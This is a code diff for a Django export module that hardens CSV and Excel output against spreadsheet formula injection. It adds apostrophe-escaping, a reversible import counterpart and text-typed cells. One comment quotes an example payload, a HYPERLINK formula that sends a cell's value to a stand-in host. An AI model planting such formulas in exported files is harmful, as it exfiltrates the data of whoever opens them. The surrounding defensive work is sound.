@@ -1,20 +1,28 @@
 """Tables to files: CSV (streamed, UTF-8 with a BOM) and Excel (write-only, to a temporary
 file), and the download response for either. Every export of the project writes through
-these, so values look the same in all of them and re-import cleanly."""
+these, so values look the same in all of them and re-import cleanly.
+
+Every cell is written by `csv_chunks` or `xlsx_cell` (the satisfaction report's workbook too),
+and both neutralise text a spreadsheet would run as a formula: see `spreadsheet_text`.
+"""
 
 from __future__ import annotations
 
 import codecs
 import csv
 import datetime as dt
+import re
 import tempfile
 from collections.abc import Iterable, Iterator
 from decimal import Decimal
-from typing import IO
+from typing import IO, TYPE_CHECKING
 
 from django.http import FileResponse, HttpResponse, StreamingHttpResponse
 from django.utils import timezone
 from django.utils.http import content_disposition_header
+
+if TYPE_CHECKING:
+    from openpyxl.cell.cell import Cell as XlsxCell
 
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 FORMATS = ("csv", "xlsx")
@@ -32,6 +40,33 @@ def table_download(rows: Iterable[list], *, fmt: str, filename: str, title: str)
         as_attachment=True, filename=filename
     )
     return response
+
+
+# Formulas
+#
+# Excel, LibreOffice and Google Sheets read a cell that starts with one of these as a formula
+# (tab and CR because some of them drop a leading one and read on), so an open answer
+# `=HYPERLINK("http://x/?"&A1,"click")` would run in the office of whoever opens the export.
+FORMULA_STARTS = frozenset("=+-@\t\r")
+# A plain number such as -5 or +8613800138000 is read as that number, never as a formula.
+_NEUTRALISED = re.compile(r"'+[=+\-@\t\r]")
+
+
+def spreadsheet_text(value: str) -> str:
+    """Text as a cell no spreadsheet runs (the OWASP advice for "CSV injection"): text that
+    starts like a formula gets a leading apostrophe, which spreadsheets take as "this is text".
+
+    Text that already starts with apostrophes before such a character gets one more, so that
+    `spreadsheet_text_read` gives back exactly what was written, whatever it was."""
+    if value.lstrip("'")[:1] in FORMULA_STARTS:
+        return "'" + value
+    return value
+
+
+def spreadsheet_text_read(value: str) -> str:
+    """The inverse of `spreadsheet_text`, for files coming back in (the importer): one
+    apostrophe is dropped, and only where `spreadsheet_text` would have added it."""
+    return value[1:] if _NEUTRALISED.match(value) else value
 
 
 # CSV
@@ -66,7 +101,9 @@ def _csv_value(value) -> str:
         return local.strftime("%Y-%m-%d %H:%M:%S.%f" if local.microsecond else "%Y-%m-%d %H:%M:%S")
     if isinstance(value, Decimal):
         return f"{value:.2f}"
-    return str(value)
+    if isinstance(value, int | float):
+        return str(value)  # a number, negative or not, goes out as one
+    return spreadsheet_text(str(value))
 
 
 # Excel
@@ -75,26 +112,39 @@ def _csv_value(value) -> str:
 def xlsx_file(rows: Iterable[list], *, title: str) -> IO[bytes]:
     """A workbook in a temporary file (write-only mode: rows go to disk as they come)."""
     from openpyxl import Workbook
-    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
     workbook = Workbook(write_only=True)
     sheet = workbook.create_sheet(title=title[:31])
     for row in rows:
-        sheet.append([_xlsx_value(value, ILLEGAL_CHARACTERS_RE) for value in row])
+        xlsx_append(sheet, row)
     out = tempfile.TemporaryFile()  # noqa: SIM115 - the response closes it once sent
     workbook.save(out)
     out.seek(0)
     return out
 
 
-def _xlsx_value(value, illegal):
-    if value is None:
-        return None
+def xlsx_append(sheet, values: Iterable) -> list[XlsxCell]:
+    """Append a row of `xlsx_cell`s to a worksheet (write-only or not) and return the cells,
+    which in a normal worksheet can still be styled."""
+    cells = [xlsx_cell(sheet, value) for value in values]
+    sheet.append(cells)
+    return cells
+
+
+def xlsx_cell(sheet, value) -> XlsxCell:
+    """The one way a value becomes an Excel cell: numbers and dates as such, text always as a
+    text cell (never a formula or an error code such as #N/A), neutralised like CSV text."""
+    from openpyxl.cell import WriteOnlyCell
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
+
     if isinstance(value, bool):
-        return "yes" if value else "no"
-    if isinstance(value, dt.datetime):
+        value = "yes" if value else "no"
+    elif isinstance(value, dt.datetime) and value.tzinfo is not None:
         # Excel has no time zones: local wall-clock time, which the importer reads back as such.
-        return timezone.localtime(value).replace(tzinfo=None)
-    if isinstance(value, str):
-        return illegal.sub("", value)
-    return value
+        value = timezone.localtime(value).replace(tzinfo=None)
+    if value is None or isinstance(value, int | float | Decimal | dt.date | dt.time):
+        return WriteOnlyCell(sheet, value=value)
+    text = spreadsheet_text(ILLEGAL_CHARACTERS_RE.sub("", str(value)))
+    cell = WriteOnlyCell(sheet, value=text)
+    cell.data_type = "s"  # openpyxl would make a formula of "=..." and an error of "#N/A"
+    return cell
